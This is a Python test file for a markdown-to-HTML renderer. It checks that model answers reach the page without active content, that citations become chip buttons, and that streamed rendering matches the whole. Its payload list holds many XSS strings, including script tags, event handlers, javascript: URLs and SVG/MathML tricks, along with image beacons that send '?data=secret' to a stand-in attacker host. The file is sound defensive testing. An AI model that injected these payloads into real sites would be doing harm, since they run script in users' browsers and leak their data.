"""A model's output never brings a link, an image, a script or a style to the page; citations become chips."""

import html
import random
import re
from html.parser import HTMLParser

import pytest

from docanalyzer.pipeline.citations import Claim, Place, find_claims
from docanalyzer.pipeline.markdown import BlockStream, render

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/?q=secret'>",
    "![x](https://evil.example/beacon.png?data=secret)",
    "![x][beacon]\n\n[beacon]: https://evil.example/b.png",
    '![x](https://evil.example/b.png "onload=alert(1)")',
    "[![x](https://evil.example/b.png)](https://evil.example)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A&#x61vascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[click](<javascript:alert(1)>)",
    "[click](https://a.example \"' onmouseover=alert(1) x='\")",
    '[a](https://a.example/"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "<https://evil.example/?q=secret>",
    "<a@evil.example>",
    "https://evil.example/?q=secret",
    "www.evil.example",
    "[x]: javascript:alert(1)\n\n[x]",
    "<a href='javascript:alert(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<div style='background:url(//evil.example)'>x</div>",
    "<p style=position:fixed;inset:0>x</p>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<form action=//evil.example><input name=q><button>Sign in</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<button class="chip" data-claim="0" onclick="alert(1)">p. 1</button>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '```js" onclick="alert(1)\nx\n```',
    '~~~"><script>alert(1)</script>\nx\n~~~',
    "    <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| a |\n|:--|\n| [x](javascript:alert(1)) |",
    "# <svg/onload=alert(1)>",
    "> <script>\n> alert(1)\n> </script>",
    "- <b onclick=alert(1)>x</b>",
    "\ue0000\ue001 forged mark <img src=x>",
    "\x00<script\x00>alert(1)</script>",
    "\\<script>alert(1)</script>",
    "**<b>**<img src=x onerror=alert(1)>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
]
ALLOWED = {"ol": {"start"}, "th": {"class"}, "td": {"class"}, "span": {"class"}}
TAGS = {
    *("p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li", "span"),
    *("h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}


class Inspector(HTMLParser):
    """Fails on any element, attribute, comment or declaration that the page is not meant to hold."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ALLOWED.get(tag, set()), (tag, name)
            assert re.fullmatch(r"\d+|align-(left|right|center)|link-target", value or ""), value

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def inspect(rendered: str) -> str:
    Inspector(convert_charrefs=True).feed(rendered)
    return rendered


def streamed(text: str, size: int, **options: object) -> str:
    stream, blocks = BlockStream(**options), []
    for start in range(0, len(text), size):
        update = stream.feed(text[start : start + size])
        blocks += update.blocks
        inspect(update.tail or "")
    update = stream.finish()
    assert update.tail == ""
    return "".join([*blocks, *update.blocks])


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "around", ["{}", "A line\n{}", "“{}” [p. 1]", "**{}**", "- {}\n\n  {}", "> {}", "1. x\n\n{}\n"]
)
def test_nothing_active_reaches_the_page(payload: str, around: str) -> None:
    text = around.replace("{}", payload)
    inspect(render(text))
    inspect(streamed(text, 5))


def test_payloads_in_any_mixture_reach_the_page_as_text_only() -> None:
    pick = random.Random(3)
    for _ in range(150):
        text = "".join(
            pick.choice(PAYLOADS)[: pick.randint(1, 80)] + pick.choice(["", "\n", "\n\n", " "])
            for _ in range(6)
        )
        inspect(render(text))


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        (
            "[the report](https://a.example/x)",
            'the report <span class="link-target">(https://a.example/x)</span>',
        ),
        (
            "![chart](https://a.example/x.png)",
            'chart <span class="link-target">(https://a.example/x.png)</span>',
        ),
        ("<https://a.example/>", "https://a.example/"),
        ("[https://a.example](https://a.example)", "https://a.example"),
        ("[**bold** x](y)", '<strong>bold</strong> x <span class="link-target">(y)</span>'),
        ("[x](javascript:alert(1))", 'x <span class="link-target">(javascript:alert(1))</span>'),
    ],
)
def test_links_and_images_are_their_words_and_their_target(markdown: str, expected: str) -> None:
    assert render(markdown).strip() == f"<p>{expected}</p>"


def test_what_answers_are_made_of_is_rendered() -> None:
    rendered = render(
        "# Summary\n\n"
        "*a* **b** ~~c~~ `d`\n\n3. x\n   - y\n\n> q\n\n| n | v |\n|:--|--:|\n| a | 1 |\n\n```py\ne < f\n```\n\n---\n"
    )
    for part in (
        *("<h3>Summary</h3>", "<em>a</em> <strong>b</strong> <s>c</s> <code>d</code>", '<ol start="3">'),
        *("<li>y</li>", "<blockquote>", '<th class="align-right">v</th>', '<td class="align-left">a</td>'),
        *("<pre><code>e &lt; f\n</code></pre>", "<hr>"),
    ):
        assert part in rendered


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("**现金流：**为负", "<strong>现金流：</strong>为负"),
        ("为**“负”**的", "为<strong>“负”</strong>的"),
        ("结论*（一）*如下", "结论<em>（一）</em>如下"),
        ("2 * 3 * 4", "2 * 3 * 4"),
        ("snake_case_name", "snake_case_name"),
        ("** 现金流 **", "** 现金流 **"),
        ("***現金***", "<em><strong>現金</strong></em>"),
    ],
)
def test_chinese_emphasis_needs_no_spaces(markdown: str, expected: str) -> None:
    assert render(markdown).strip() == f"<p>{expected}</p>"


def claims_in(text: str) -> list[Claim]:
    return [
        Claim(found.start(), found.end(), quote="", places=(Place(page=int(found[1])),))
        for found in re.finditer(r"\[p\. (\d+)\]", text)
    ]


def test_a_citation_becomes_a_chip_with_its_number_and_words() -> None:
    text = "Cash was “negative” [p. 87]. **Also “x” [p. 3]**"
    assert render(text, claims_in(text)).strip() == (
        '<p>Cash was “negative” <button type="button" class="chip" data-claim="0">p. 87</button>. '
        '<strong>Also “x” <button type="button" class="chip" data-claim="1">p. 3</button></strong></p>'
    )


def test_a_chip_stands_in_tables_lists_and_headings_but_never_in_code() -> None:
    text = "# a [p. 1]\n\n- b [p. 2]\n\n| c |\n|---|\n| d [p. 3] |\n\n"
    text += "`[p. 4]`\n\n```\n[p. 5]\n```\n\n    [p. 6]\n\n“e” [p. 7]"
    rendered = render(text, claims_in(text))
    assert re.findall(r'data-claim="(\d)"', rendered) == ["0", "1", "2", "6"]
    assert "<code>[p. 4]</code>" in rendered
    assert "<pre><code>[p. 5]\n</code></pre>" in rendered
    assert "<pre><code>[p. 6]\n</code></pre>" in rendered


def test_a_citation_never_becomes_a_link() -> None:
    text = "“x” [p. 3](https://evil.example) and [a](https://evil.example/[p. 4])"
    rendered = render(text, claims_in(text))
    assert "</button>(https://evil.example)" in rendered
    assert "(https://evil.example/[p. 4])" in rendered
    assert rendered.count("<button") == 1


def test_an_escaped_bracket_loses_its_backslash_but_not_in_code() -> None:
    text = "“x” \\[p. 3] \\\\[p. 4] `\\[p. 5]`"
    rendered = render(text, claims_in(text), plain_chip).strip()
    assert rendered == "<p>“x” chip 0 [p. 3] \\chip 1 [p. 4] <code>\\[p. 5]</code></p>"


ANSWER = """# 摘要

Cash was “negative in 2022” [p. 87] and “x” and “y” [pp. 3–4].

- “a b” [p. 3; p. 7]
- 结论“现金流量净额为负”[第87页]。

> “long quote here”

[p. 9]

| k | v |
|---|---|
| fee | “EUR 5” [2: p. 8] |

`[p. 4]` and “z” [§4.2(a)], “w”【第3页】 “v” [¶57]
"""


@pytest.mark.parametrize("size", [1, 4, 50])
def test_citations_of_a_streamed_answer_are_numbered_as_in_the_whole(size: int) -> None:
    blocks = streamed(ANSWER, size, find_claims=find_claims, chip=plain_chip)
    assert squeezed(blocks) == squeezed(render(ANSWER, find_claims(ANSWER), plain_chip))
    chips = re.findall(r"chip (\d+) [\[【](.*?)[\]】]", blocks)
    assert [place for _, place in chips] == [
        *("p. 87", "pp. 3–4", "p. 3; p. 7", "第87页", "p. 9", "2: p. 8", "§4.2(a)", "第3页", "¶57"),
    ]
    numbers = [int(number) for number, _ in chips]
    assert numbers == sorted(set(numbers))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("“x” [p. 3, Table 3]", "“x” [CHIP, Table 3]"),
        ("“x”（合同第3页表3）", "“x”（合同CHIP表3）"),
        ("“x” [p. 3, Section 4 “y”] z", "“x” [CHIP “y”] z"),
        ("“x” under “y” [p. 3] z", "“x” under “y” CHIP z"),
        ("“x” [[p. 3]] z", "“x” CHIP z"),
        ("“x” \\[p. 3\\] z", "“x” CHIP z"),
        ("“x” \\[p. 3, line 5\\] z", "“x” [CHIP, line 5] z"),
        ("“x” on **page 3** z", "“x” on CHIP z"),
        ("“x” on page 3 z", "“x” on CHIP z"),
        ("**Page 3:** “x”", "CHIP: “x”"),
        ("On page 3 of it, the text says: “x” z", "On CHIP of it, the text says: “x” z"),
        ("第3页指出：“x”。", "CHIP指出：“x”。"),
        ("**Quote:** “x”\n**Page:** 3\n\nz", "Quote: “x”\nCHIP\nz"),
        ("- Quote: “x”\n- Page: 3\n\nz", "Quote: “x”\nCHIP\nz"),
        ("> x y\n>\n> — p. 3\n\nz", "x y\n— CHIP\nz"),
        ("> x y\n\n— p. 3\n\nz", "x y\n— CHIP\nz"),
        ("| a | b |\n|---|---|\n| “x” | p. 3 |", "a\nb\n“x”\nCHIP"),
        ("“x”[^1] z\n\n[^1]: p. 3", "“x”[^1] z\n[^1]: CHIP"),
        ("*x y z v w words* [p. 3] z", "x y z v w words CHIP z"),
        ("`“x” on page 3` z", "“x” on page 3 z"),
    ],
)
def test_a_chip_stands_where_the_place_stood_and_no_other_word_is_lost(text: str, shown: str) -> None:
    rendered = render(text, find_claims(text), lambda number, claims, written: "CHIP")
    lines = (line.strip() for line in re.sub(r"<[^>]+>", "", rendered).split("\n"))
    assert "\n".join(line for line in lines if line) == shown


def test_claims_that_share_a_bracket_make_one_chip() -> None:
    text = "“A” and “B” [p. 3]; “C” [p. 4]"
    first, last = claims_in(text)
    seen: list[tuple[int, int, str]] = []

    def chip(number: int, claims: object, written: str) -> str:
        seen.append((number, len(claims), written))  # type: ignore[arg-type]
        return "*"

    assert render(text, [first, first, last], chip).strip() == "<p>“A” and “B” *; “C” *</p>"
    assert seen == [(0, 2, "[p. 3]"), (2, 1, "[p. 4]")]


def test_claims_outside_the_text_or_within_another_are_left_out() -> None:
    text = "“A” [p. 3]"
    [claim] = claims_in(text)
    inner = Claim(claim.start + 1, claim.end - 1, "", ())
    beyond = Claim(500, 510, "", ())
    assert render(text, [claim, inner, beyond]).count("<button") == 1


def test_a_json_answer_keeps_its_values() -> None:
    text = '{"fee": {"value": "EUR 5", "quote": "five", "page": 3}}'
    claim = Claim(8, len(text) - 1, "five", (Place(page=3),), path="fee")
    assert html.unescape(render(text, [claim])).strip() == f"<p>{text}</p>"


def test_the_words_of_a_chip_are_escaped() -> None:
    text = "“A” [<b>]"
    assert "&lt;b&gt;</button>" in render(text, [Claim(4, 9, "", ())])


FRAGMENTS = [
    *(
        "para ",
        "more text\n",
        "\n",
        "\n\n",
        "# Head\n",
        "===\n",
        "---\n",
        "- item\n",
        "* star\n",
        "  - inner\n",
        "1. one\n",
    ),
    *(
        "2. two\n",
        "> quote\n",
        "lazy\n",
        "```\n",
        "~~~\n",
        "    indented\n",
        "| a | b |\n",
        "|---|--:|\n",
        "| 1 | 2 |\n",
    ),
    *(
        "**bold",
        "**",
        "`co",
        "de`",
        "“words” [p. 8",
        "7]",
        " [p. 3] ",
        "[x](y)",
        "[x]: z\n",
        "\r\n",
        "\t",
        "\\",
        "中文**",
    ),
]


@pytest.mark.parametrize("size", [1, 3, 17, 1000])
def test_streamed_blocks_are_the_whole_text_rendered_at_once(size: int) -> None:
    pick = random.Random(size)
    for _ in range(60):
        text = "".join(pick.choices(FRAGMENTS, k=pick.randint(1, 40)))
        blocks = streamed(text, size, find_claims=claims_in, chip=plain_chip)
        assert squeezed(blocks) == squeezed(render(text, claims_in(text), plain_chip)), text


def plain_chip(number: int, claims: object, written: str) -> str:
    return f"chip {number} {html.escape(written)}"


def squeezed(rendered: str) -> str:
    return re.sub(r">\s+<", "><", rendered).strip()


def test_a_finished_block_is_given_once_and_the_tail_holds_the_rest() -> None:
    stream = BlockStream()
    assert stream.feed("First").tail == "<p>First</p>\n"
    assert stream.feed(" block.\n\nSec").blocks == ()
    update = stream.feed("ond.\n")
    assert update.blocks == ("<p>First block.</p>\n",)
    assert update.tail == "<p>Second.</p>\n"
    assert stream.finish().blocks == ("<p>Second.</p>\n",)
    assert stream.finish().blocks == ()


def test_nothing_comes_of_nothing() -> None:
    stream = BlockStream()
    assert stream.feed("").tail is None
    assert stream.finish().blocks == ()


def test_the_work_grows_with_the_text_and_not_with_its_square(monkeypatch: pytest.MonkeyPatch) -> None:
    """One huge block, the worst there is: characters rendered per character written stay bounded."""
    rendered = 0

    def counting(text: str) -> list[Claim]:
        nonlocal rendered
        rendered += len(text)
        return []

    for length in (50, 400):
        rendered = 0
        streamed("- an item of the list\n" * length, 7, find_claims=counting)
        assert rendered < 20 * 22 * length


def test_characters_that_turn_the_order_of_others_are_taken_out() -> None:
    turned = "The rate is **\u202e51\u202c** percent, &#x202e;51 [p. 1], `\u202e15`, \u2066abc\u2069."
    shown = render(turned, find_claims(turned))
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", shown)
    assert "<strong>51</strong> percent, 51" in shown
